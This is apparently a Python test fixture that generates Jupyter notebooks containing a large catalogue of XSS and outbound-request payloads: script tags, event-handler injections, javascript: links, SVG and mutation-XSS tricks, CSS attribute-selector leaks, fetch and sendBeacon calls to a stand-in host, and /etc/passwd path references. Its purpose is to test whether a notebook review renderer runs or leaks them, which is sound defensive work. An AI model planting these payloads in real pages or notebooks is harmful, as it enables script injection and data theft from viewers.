"""Notebooks that try to run a script or to ask something of another host once a mentor opens them.

Each payload has a name; what it runs says ``FIRED <name>`` on the console, what it asks for lies at
``https://elsewhere.example/<name>``. Together they cover every place of the format an intern writes to. ``FIRING`` fire in
Chromium when nbconvert's own export is served as it is; ``QUIET`` don't, today, and are tried all the same.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.unit.reviews.conftest import code, markdown, notebook_of

ELSEWHERE = "https://elsewhere.example"


@dataclass(frozen=True)
class Words:
    """What a payload of one name says: ``fire`` is a script, ``url`` an address elsewhere."""

    name: str

    @property
    def fire(self) -> str:
        """Without double quotes, so that it fits into an attribute."""
        return f"console.log('FIRED {self.name}')"

    @property
    def script(self) -> str:
        """As an element."""
        return f"<script>{self.fire}</script>"

    @property
    def url(self) -> str:
        """An address that only this payload asks for."""
        return f"{ELSEWHERE}/{self.name}"

    @property
    def svg(self) -> str:
        """A drawing that runs a script when it is loaded."""
        return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{self.fire}"><rect/></svg>'

    @property
    def page64(self) -> str:
        """A page with the script, in base64."""
        return base64.b64encode(self.script.encode()).decode()


Make = Callable[[Words], str]
Build = Callable[[Words], bytes]

# In the text of a Markdown cell. A click on everything that can be clicked belongs to the visit.
IN_MARKDOWN: dict[str, Make] = {
    "script": lambda w: w.script,
    "script-in-block": lambda w: f"<div>\n{w.script}\n</div>",
    "script-module": lambda w: f'<script type="module">{w.fire}</script>',
    "script-from-elsewhere": lambda w: f'<script src="{w.url}"></script>',
    "script-module-from-elsewhere": lambda w: f'<script type="module">import "{w.url}"</script>',
    "script-fetch": lambda w: f"<script>fetch('{w.url}')</script>",
    "script-beacon": lambda w: f"<script>navigator.sendBeacon('{w.url}', document.title)</script>",
    "script-in-worker": lambda w: "<script>new Worker(URL.createObjectURL(new Blob([`fetch('"
    f"{w.url}').catch(Boolean)`])))</script>",
    "image-onerror": lambda w: f'<img src=x onerror="{w.fire}">',
    "svg-onload": lambda w: w.svg,
    "svg-script": lambda w: f"<svg>{w.script}</svg>",
    "svg-script-from-elsewhere": lambda w: f'<svg><script href="{w.url}"></script></svg>',
    "svg-animation": lambda w: f'<svg><animate onbegin="{w.fire}" attributeName="x" dur="1s"></animate></svg>',
    "svg-set-link": lambda w: f'<svg><a><set attributeName="href" to="javascript:{w.fire}"/><text y="20">x</text></a></svg>',
    "svg-link": lambda w: f'<svg><a xlink:href="javascript:{w.fire}"><text y="20">press</text></a></svg>',
    "svg-image": lambda w: f'<svg><image href="{w.url}"/></svg>',
    "svg-filter-image": lambda w: f'<svg><filter id="f"><feImage href="{w.url}"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-foreign": lambda w: f'<svg><foreignObject><img src="x" onerror="{w.fire}"></foreignObject></svg>',
    "math-link": lambda w: f'<math><mi href="javascript:{w.fire}">x</mi></math>',
    "details-toggle": lambda w: f'<details open ontoggle="{w.fire}">x</details>',
    "focus": lambda w: f'<input autofocus onfocus="{w.fire}">',
    "blur-and-focus": lambda w: f'<b tabindex="0" onfocusin="{w.fire}">x</b>',
    "pointer": lambda w: f'<b onpointerover="{w.fire}">x</b>',
    "click": lambda w: f'<b onclick="{w.fire}">x</b>',
    "animation": lambda w: f'<style>@keyframes a{{}}</style><b style="animation:a 1s" onanimationstart="{w.fire}">x</b>',
    "transition": lambda w: "<style>@starting-style{#t{opacity:0}}#t{transition:opacity .01s}</style>"
    f'<b id="t" ontransitionend="{w.fire}">x</b>',
    "visibility": lambda w: '<b style="content-visibility:auto;display:block" '
    f'oncontentvisibilityautostatechange="{w.fire}">x</b>',
    "popover": lambda w: f'<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="{w.fire}">y</div>',
    "marquee": lambda w: f'<marquee onstart="{w.fire}">x</marquee>',
    "media-onerror": lambda w: f'<video><source src="x" onerror="{w.fire}"></video>',
    "style-onload": lambda w: f'<style onload="{w.fire}">b{{}}</style>',
    "link-onerror": lambda w: f'<link rel="stylesheet" href="data:,x" onload="{w.fire}" onerror="{w.fire}">',
    "iframe-onload": lambda w: f'<iframe onload="{w.fire}"></iframe>',
    "iframe-srcdoc": lambda w: f'<iframe srcdoc="{w.script}"></iframe>',
    "iframe-javascript": lambda w: f'<iframe src="javascript:{w.fire}"></iframe>',
    "iframe-data": lambda w: f'<iframe src="data:text/html;base64,{w.page64}"></iframe>',
    "iframe-from-elsewhere": lambda w: f'<iframe src="{w.url}"></iframe>',
    "iframe-sandbox-of-its-own": lambda w: f'<iframe sandbox="allow-scripts" srcdoc="{w.script}"></iframe>',
    "object-data": lambda w: f'<object data="data:text/html;base64,{w.page64}"></object>',
    "object-from-elsewhere": lambda w: f'<object data="{w.url}"></object>',
    "embed-data": lambda w: f'<embed src="data:text/html;base64,{w.page64}">',
    "embed-from-elsewhere": lambda w: f'<embed src="{w.url}">',
    "refresh": lambda w: f'<meta http-equiv="refresh" content="0;url={w.url}">',
    "base": lambda w: f'<base href="{ELSEWHERE}/"><img src="{w.name}">',
    "link-style": lambda w: f'<link rel="stylesheet" href="{w.url}">',
    "link-style-by-import": lambda w: f'<link rel="stylesheet" href="data:text/css,@import url({w.url})">',
    "link-preload": lambda w: f'<link rel="preload" as="image" href="{w.url}">',
    "link-module": lambda w: f'<link rel="modulepreload" href="{w.url}">',
    "link-prefetch": lambda w: f'<link rel="prefetch" href="{w.url}">',
    "style-import": lambda w: f"<style>@import url({w.url});</style>",
    "style-background": lambda w: f"<style>main, body {{ background: url({w.url}) }}</style>",
    "style-content": lambda w: f"<style>p::before {{ content: url({w.url}) }}</style><p>x",
    "style-by-attribute": lambda w: f'<style>a[title^="s"] {{ background: url({w.url}) }}</style><a title="secret">x</a>',
    "style-attribute": lambda w: f'<p style="background-image: url({w.url}); color: red">x</p>',
    "style-list": lambda w: f'<ul style="list-style-image: url({w.url})"><li>x</ul>',
    "style-image-set": lambda w: f"<p style=\"background-image: image-set('{w.url}' 1x)\">x</p>",
    "font": lambda w: f"<style>@font-face {{ font-family: q; src: url({w.url}) }} p {{ font-family: q }}</style><p>x",
    "picture": lambda w: f"![pixel]({w.url})",
    "picture-by-reference": lambda w: f"![pixel][p]\n\n[p]: {w.url}",
    "picture-set": lambda w: f'<img srcset="{w.url} 1x">',
    "picture-source": lambda w: f'<picture><source srcset="{w.url}"><img></picture>',
    "picture-button": lambda w: f'<input type="image" src="{w.url}">',
    "table-background": lambda w: f'<table background="{w.url}"><tr><td>x</table>',
    "video": lambda w: f'<video src="{w.url}" autoplay muted></video>',
    "video-poster": lambda w: f'<video poster="{w.url}"></video>',
    "audio": lambda w: f'<audio src="{w.url}" preload="auto"></audio>',
    "subtitles": lambda w: f'<video src="data:video/mp4," crossorigin><track default src="{w.url}"></video>',
    "form": lambda w: f'<form action="{w.url}"><input name="a" value="b"><button>go</button></form>',
    "form-of-a-button": lambda w: f'<form><button formaction="{w.url}" formmethod="post">go</button></form>',
    "form-javascript": lambda w: f'<form action="javascript:{w.fire}"><button>go</button></form>',
    "link-javascript": lambda w: f'<a href="javascript:{w.fire}">press me</a>',
    "link-javascript-by-markdown": lambda w: f"[press me](javascript:console.log%28'FIRED%20{w.name}'%29)",
    "link-javascript-with-tab": lambda w: f'<a href="java&Tab;script:{w.fire}">press me</a>',
    "link-ping": lambda w: f'<a href="#x" ping="{w.url}">x</a>',
    "area": lambda w: f'<map name="m"><area shape="default" href="javascript:{w.fire}"></map><img usemap="#m" src="data:,">',
    "noscript": lambda w: f'<noscript><p title="</noscript><img src=x onerror=&quot;{w.fire}&quot;>"></noscript>',
    "noscript-closed": lambda w: f'<noscript></noscript><img src=x onerror="{w.fire}">',
    "comment": lambda w: f'<!--><img src=x onerror="{w.fire}">-->',
    "mutation": lambda w: "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={w.fire}&gt;"><img src=x onerror="{w.fire}">',
    "shadow": lambda w: f'<div><template shadowrootmode="open"><img src=x onerror="{w.fire}"></template></div>',
    "body-again": lambda w: f'<body onload="{w.fire}" onpageshow="{w.fire}">',
    "out-of-the-page": lambda w: f"</div></section></main></body></html>{w.script}",
    "heading": lambda w: f"# A title </h1>{w.script}",
    "entities-in-attribute": lambda w: f'<img src=x onerror="&#99;onsole.log(\'FIRED {w.name}\')">',
    "upper-case": lambda w: f'<ScRiPt>{w.fire}</sCrIpT>',
    "no-closing-tag": lambda w: f'<img src=x onerror="{w.fire}" <b>',
    "slash-for-space": lambda w: f'<svg/onload="{w.fire}">',
    "attribute-in-table": lambda w: f'| a |\n|---|\n| <img src=x onerror="{w.fire}"> |',
    "quote-in-list": lambda w: f'* one\n  > <img src=x onerror="{w.fire}">',
    "math": lambda w: f"$$</span>{w.script}$$ and $x<img src=q onerror=\"{w.fire}\">$",
    "latex-environment": lambda w: f'\\begin{{equation}}<img src=q onerror="{w.fire}">\\end{{equation}}',
    "code-fence": lambda w: f'```"><script>{w.fire}</script>\nx\n```',
    "diagram": lambda w: f'```mermaid\ngraph TD; A[<img src=q onerror="{w.fire}">]\n```',
    "file": lambda w: "![x](file:///etc/passwd) ![y](../../canary.txt) <img src='/etc/passwd'>",
}  # fmt: skip


def output(mime: str, make: Callable[[Words], Any], **metadata: Any) -> Build:
    """A notebook with one output of this kind."""

    def build(words: Words) -> bytes:
        written = json.loads(
            json.dumps(metadata).replace("FIRE", words.fire).replace("SCRIPT", words.script.replace('"', "'"))
        )
        shown = {"output_type": "display_data", "metadata": written, "data": {mime: make(words)}}
        return notebook_of(code("x", shown))

    return build


def cell(**parts: Any) -> Build:
    """A notebook of one cell, in whose parts ``SCRIPT`` and ``FIRE`` stand for the payload."""
    return whole(parts)


def whole(*cells: dict[str, Any], **metadata: Any) -> Build:
    """A notebook of these cells and metadata, in which ``SCRIPT`` and ``FIRE`` stand for the payload."""

    def build(words: Words) -> bytes:
        text = notebook_of(*cells, **metadata).decode()
        return text.replace("SCRIPT", words.script).replace("FIRE", words.fire).encode()

    return build


def attachment(name: str, mime: str, make: Make) -> Build:
    """A Markdown cell that shows what is attached to it."""
    return lambda words: notebook_of(markdown(f"![x](attachment:{name})", attachments={name: {mime: make(words)}}))


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


WIDGETS = "application/vnd.jupyter.widget-state+json"
ELSEWHERE_IN_THE_FORMAT: dict[str, Build] = {
    "raw-html": cell(cell_type="raw", metadata={"raw_mimetype": "text/html"}, source="SCRIPT"),
    "raw-plain": cell(cell_type="raw", metadata={}, source="SCRIPT"),
    "attachment-html": attachment("a.html", "text/html", lambda w: w.page64),
    "attachment-svg": attachment("a.svg", "image/svg+xml", lambda w: _encoded(w.svg)),
    "attachment-breaks-out": attachment("a.png", "image/png", lambda w: f'"><img src=q onerror="{w.fire}">'),
    "attachment-missing": lambda w: notebook_of(markdown("![x](attachment:none.png) **still readable**")),
    "code-source": cell(**code('"</pre></div>SCRIPT"')),
    "code-magic": cell(**code("%%javascript\nFIRE")),
    "code-tags": cell(**code("x", metadata={"tags": ["'><script>FIRE</script>"]})),
    "cell-id": cell(**{**markdown("x"), "id": "x'><script>FIRE</script>"}),
    "output-html": output("text/html", lambda w: w.script),
    "output-html-handler": output("text/html", lambda w: f'<b onmouseover="{w.fire}">x</b>'),
    "output-html-image": output("text/html", lambda w: f'<img src=x onerror="{w.fire}">'),
    "output-html-frame": output("text/html", lambda w: f'<iframe src="{w.url}"></iframe>'),
    "output-html-style": output("text/html", lambda w: f"<style>@import url({w.url});</style>"),
    "output-html-form": output("text/html", lambda w: f'<form action="{w.url}" method="post"><button>go</button></form>'),
    "output-html-table": output("text/html", lambda w: f'<table class="dataframe"><tr><td background="{w.url}">1</table>'),
    "output-html-parts": output("text/html", lambda w: ["<scr", f"ipt>{w.fire}</scr", "ipt>"]),
    "output-html-isolated": output("text/html", lambda w: w.script, **{"text/html": {"isolated": True}}),
    "output-javascript": output("application/javascript", lambda w: w.fire),
    "output-svg": output("image/svg+xml", lambda w: w.svg),
    "output-svg-script": output("image/svg+xml", lambda w: f"<svg>{w.script}</svg>"),
    "output-svg-image": output("image/svg+xml", lambda w: f'<svg><image href="{w.url}"/></svg>'),
    "output-svg-breaks-out": output("image/svg+xml", lambda w: f'"></svg>{w.script}'),
    "output-png-breaks-out": output("image/png", lambda w: f'x"><img src=x onerror="{w.fire}'),
    "output-png-handler": output("image/png", lambda w: f'x" onerror="{w.fire}'),
    "output-jpeg-breaks-out": output("image/jpeg", lambda w: f'">{w.script}'),
    "output-png-sizes": output(
        "image/png", lambda w: "iVBORw0KGgo=", **{"image/png": {"width": '1" onerror="FIRE', "height": 2}}
    ),
    "output-png-alt": output("image/png", lambda w: "iVBORw0KGgo=", **{"image/png": {"alt": '">SCRIPT'}}),
    "output-markdown": output("text/markdown", lambda w: w.script),
    "output-markdown-picture": output("text/markdown", lambda w: f"![x]({w.url})"),
    "output-latex": output("text/latex", lambda w: f"$</script>{w.script}$"),
    "output-plain": output("text/plain", lambda w: w.script),
    "output-pdf": output("application/pdf", lambda w: w.page64),
    "output-json": output("application/json", lambda w: {"x": w.script}),
    "output-vega": output("application/vnd.vega.v5+json", lambda w: {"data": [{"url": w.url}]}),
    "output-plotly": output("application/vnd.plotly.v1+json", lambda w: {"data": [], "layout": {"title": w.script}}),
    "output-widget": output("application/vnd.jupyter.widget-view+json", lambda w: {"model_id": f"</script>{w.script}"}),
    "widget-state": whole(
        code("x", {"output_type": "display_data", "metadata": {},
                   "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}}}),
        widgets={WIDGETS: {"version_major": 2, "version_minor": 0, "state": {"m": {"model_name": "</script>SCRIPT"}}}},
    ),
    "output-unknown-kind": lambda w: output(f'text/<img src=x onerror="{w.fire}">', lambda _: "x")(w),
    "stream": cell(**code("x", {"output_type": "stream", "name": "stdout", "text": "\x1b[31mSCRIPT\x1b[38;5;'FIREm<b>"})),
    "error": cell(**code("x", {"output_type": "error", "ename": "SCRIPT", "evalue": "SCRIPT", "traceback": ["SCRIPT"]})),
    "error-without-traceback": cell(
        **code("x", {"output_type": "error", "ename": "SCRIPT", "evalue": "SCRIPT", "traceback": []})
    ),
    "title": whole(markdown("x"), title="</title>SCRIPT"),
    "language": whole(code("x"), language_info={"name": "'><script>FIRE</script>", "pygments_lexer": "../../etc/passwd"}),
    "kernel-name": whole(code("x"), kernelspec={"name": "SCRIPT", "display_name": "SCRIPT"}),
    "export-settings": whole(
        markdown("![x](canary.txt)"), nbconvert={"template_name": "../../etc", "embed_images": True}, celltoolbar="SCRIPT"
    ),
}  # fmt: skip


def _in_markdown(make: Make) -> Build:
    return lambda words: notebook_of(markdown(make(words)))


BUILDS = {f"markdown-{name}": _in_markdown(make) for name, make in IN_MARKDOWN.items()} | ELSEWHERE_IN_THE_FORMAT
PAYLOADS: dict[str, bytes] = {name: build(Words(name)) for name, build in BUILDS.items()}
# What no control fires today: escaped by nbconvert's export, left out of it, or not run by Chromium any more.
# fmt: off
QUIET = frozenset([
    "markdown-math-link", "markdown-marquee", "markdown-noscript", "markdown-no-closing-tag",
    "markdown-slash-for-space", "markdown-math", "markdown-latex-environment", "markdown-code-fence",
    "markdown-file", "raw-html", "raw-plain", "attachment-html", "attachment-svg", "attachment-breaks-out",
    "attachment-missing", "code-source", "code-magic", "code-tags", "cell-id", "output-javascript",
    "output-svg", "output-svg-script", "output-svg-image", "output-svg-breaks-out", "output-png-breaks-out",
    "output-png-handler", "output-jpeg-breaks-out", "output-png-sizes", "output-png-alt", "output-latex",
    "output-plain", "output-pdf", "output-json", "output-vega", "output-plotly", "output-widget",
    "widget-state", "output-unknown-kind", "stream", "error", "error-without-traceback", "title", "language",
    "kernel-name", "export-settings",
])
# fmt: on
FIRING = [name for name in PAYLOADS if name not in QUIET]
